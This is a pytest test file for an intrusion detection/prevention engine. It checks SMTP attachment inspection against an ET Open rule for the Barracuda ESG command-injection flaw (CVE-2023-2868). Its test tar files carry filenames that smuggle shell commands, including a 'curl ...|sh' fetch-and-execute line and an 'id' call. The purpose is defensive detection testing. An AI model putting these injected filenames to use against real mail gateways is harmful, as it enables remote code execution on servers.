"""SMTP through the real Inspector: file.data on mail attachments (ET Open rule), smtp app-layer events, the
EVE smtp/email objects, and IPS blocking of an attachment mid-transfer."""
from __future__ import annotations

import base64
import io
import tarfile

import pytest

from gateway.ids.model import RuleError
from gateway.ids.rules import parse_rule
from gateway.pipeline import Verdict

from .conftest import tcp_conversation
from .test_ids_engine import _hs_cache, alerts, inspector, run  # noqa: F401 - _hs_cache: a per-test cache

CLIENT, SERVER = "198.18.0.10", "10.10.0.25"

# ET Open (April 2024), verbatim: a tar whose member names hold a shell command between '` and `'
ET_BARRACUDA = (
    'alert smtp any any -> $SMTP_SERVERS any (msg:"ET EXPLOIT Possible Barracuda Email Security Gateway Remote '
    'Code Execution Attempt (CVE-2023-2868) M1"; flow:established,to_server; file.data; content:"|75 73 74 61 72|"; '
    'fast_pattern; content:"|27 60|"; distance:0; content:"|60 27|"; within:500; '
    'reference:url,www.mandiant.com/resources/blog/barracuda-esg-exploited-globally; reference:cve,2023-2868; '
    'classtype:attempted-admin; sid:2046280; rev:1; metadata:affected_product Barracuda_ESG, attack_target '
    'SMTP_Server, created_at 2023_06_15, cve CVE_2023_2868, deployment Perimeter, deployment Internal, '
    'former_category EXPLOIT, performance_impact Low, confidence High, signature_severity Major, updated_at '
    '2023_09_21; target:dest_ip;)')
# Suricata's rules/smtp-events.rules
SMTP_EVENT_RULES = (
    'alert smtp any any -> any any (msg:"SURICATA SMTP data command rejected"; flow:established,to_client; '
    'app-layer-event:smtp.data_command_rejected; flowint:smtp.anomaly.count,+,1; classtype:protocol-command-decode; '
    'sid:2220008; rev:1;)\n'
    'alert smtp any any -> any any (msg:"SURICATA SMTP Mime boundary length exceeded"; flow:established,to_server; '
    'app-layer-event:smtp.mime_long_boundary; flowint:smtp.anomaly.count,+,1; classtype:protocol-command-decode; '
    'sid:2220017; rev:1;)\n')


def tar_of(*names: str) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name in names:
            data = b"#!/bin/sh\n"
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def message(name: bytes, content: bytes) -> bytes:
    b64 = base64.encodebytes(content).replace(b"\n", b"\r\n")
    return (b"From: <a@example.org>\r\nTo: <ops@clinic.example>\r\nSubject: logs\r\n"
            b"Content-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n"
            b"--b1\r\nContent-Type: application/x-tar; name=\"" + name + b"\"\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename=\"" + name + b"\"\r\n\r\n" + b64 + b"--b1--\r\n")


def session(cport: int, body: bytes, data_reply: bytes = b"354 go\r\n", segment: int = 1400) -> list[bytes]:
    talk = [(b"220 mx.clinic.example ESMTP\r\n", False), (b"EHLO relay.example\r\n", True), (b"250 mx\r\n", False),
            (b"MAIL FROM:<a@example.org>\r\n", True), (b"250 ok\r\n", False),
            (b"RCPT TO:<ops@clinic.example>\r\n", True), (b"250 ok\r\n", False), (b"DATA\r\n", True),
            (data_reply, False)]
    if data_reply.startswith(b"354"):
        wire = body + b".\r\n"
        talk += [(wire[i:i + segment], True) for i in range(0, len(wire), segment)]
        talk += [(b"250 queued\r\n", False)]
    talk += [(b"QUIT\r\n", True), (b"221 bye\r\n", False)]
    # each segment ACKed by the peer, as real stacks do (Suricata-like timing: the mail is answered, then ACKed)
    return tcp_conversation(talk, CLIENT, SERVER, cport, 25, acks=True)


EVIL = tar_of("logs/a.txt", "'`curl 198.18.0.99/x|sh`'.txt")
BENIGN = tar_of("logs/a.txt", "logs/b.txt")


@pytest.mark.parametrize("ips", [False, True])
def test_et_open_file_data_rule_fires_on_a_mail_attachment_and_not_on_a_near_miss(tmp_path, ips):
    assert b"ustar" in EVIL and b"'`" in EVIL[EVIL.index(b"ustar"):]
    insp, events, _ = inspector(tmp_path, ET_BARRACUDA + "\n", ips=ips)
    run(insp, session(43001, message(b"logs.tar", EVIL)) + session(43002, message(b"logs.tar", BENIGN)))
    got = alerts(events)
    assert [(a["alert"]["signature_id"], a["src_port"]) for a in got] == [(2046280, 43001)]
    a = got[0]
    assert a["app_proto"] == "smtp" and a["tx_id"] == 0 and a["direction"] == "to_server"
    assert a["smtp"] == {"helo": "relay.example", "mail_from": "<a@example.org>", "rcpt_to": ["<ops@clinic.example>"]}
    # IDS mode inspects the mail once it is answered; IPS mode as it arrives (the alert is on the segment that
    # completed the match, while the attachment is still open)
    done = not ips
    assert a["email"] == {"status": "PARSE_DONE" if done else "BODY_STARTED", "from": "<a@example.org>",
                          "to": ["<ops@clinic.example>"], "subject": "logs", "attachment": ["logs.tar"]}
    f = a["files"][0]
    assert (f["filename"], f["state"], f["tx_id"]) == ("logs.tar", "CLOSED" if done else "OPEN", 0)
    assert f["size"] == len(EVIL) if done else 0 < f["size"] <= len(EVIL)


def test_ips_drops_the_mail_while_the_attachment_is_still_arriving(tmp_path):
    rule = ET_BARRACUDA.replace("alert smtp", "drop smtp", 1)
    insp, events, _ = inspector(tmp_path, rule + "\n", ips=True)
    big = tar_of("a.txt", "'`id`'.txt") + b"\x00" * 60000          # the evil name first, then a long tail
    pkts = session(43003, message(b"big.tar", big))
    verdicts = run(insp, pkts)
    got = alerts(events)
    assert len(got) == 1 and got[0]["alert"]["action"] == "blocked"
    dropped = [i for i, v in enumerate(verdicts) if v != Verdict.ACCEPT]
    data_pkts = [i for i, p in enumerate(pkts) if len(p) > 60 and b"QUIT" not in p]
    # blocked with the first segments of the attachment, long before the end of the mail
    assert dropped and dropped[0] < data_pkts[-1] - 10


def test_ids_mode_inspects_the_mail_once_the_server_answered_it(tmp_path):
    insp, events, _ = inspector(tmp_path, ET_BARRACUDA + "\n")
    pkts = session(43004, message(b"logs.tar", EVIL))
    reply = next(i for i, p in enumerate(pkts) if b"250 queued" in p)
    seen = []
    for i, p in enumerate(pkts):
        insp.process(p, 1700000000 + i * 0.01)
        seen.append(len(alerts(events)))
    insp.finish()
    # not on the segment that ended the mail: on the client's first packet after the server's answer
    assert seen.index(1) == reply + 1


def test_a_file_data_rule_without_protocol_reads_http_bodies_and_mail_attachments(tmp_path):
    insp, events, _ = inspector(tmp_path, 'alert tcp any any -> any any (msg:"f"; file.data; content:"42"; sid:1;)\n')
    run(insp, session(43005, message(b"n.tar", b"the answer is 42")) + session(43006, message(b"n.tar", b"43")))
    assert [a["src_port"] for a in alerts(events)] == [43005]


def test_smtp_event_rules_fire(tmp_path):
    insp, events, _ = inspector(tmp_path, SMTP_EVENT_RULES)
    long_boundary = message(b"x.tar", b"x").replace(b"boundary=\"b1\"", b"boundary=\"" + b"B" * 300 + b"\"")
    run(insp, session(43007, b"", data_reply=b"554 no valid recipients\r\n") + session(43008, long_boundary))
    assert sorted((a["alert"]["signature_id"], a["src_port"] if a["direction"] == "to_server" else a["dest_port"],
                   a["direction"]) for a in alerts(events)) == [
        (2220008, 43007, "to_client"), (2220017, 43008, "to_server")]


def test_smtp_rules_load_and_unknown_events_are_refused():
    r = parse_rule(ET_BARRACUDA)
    assert r.app_proto == "smtp" and r.buffers[0].buffer == "file.data"
    assert parse_rule(SMTP_EVENT_RULES.splitlines()[0]).app_events == ("data_command_rejected",)
    with pytest.raises(RuleError, match="smtp has no event"):
        parse_rule('alert smtp any any -> any any (msg:"x"; app-layer-event:smtp.no_such_event; sid:1;)')
    with pytest.raises(RuleError):
        parse_rule('alert dns any any -> any any (msg:"x"; file.data; content:"a"; sid:1;)')
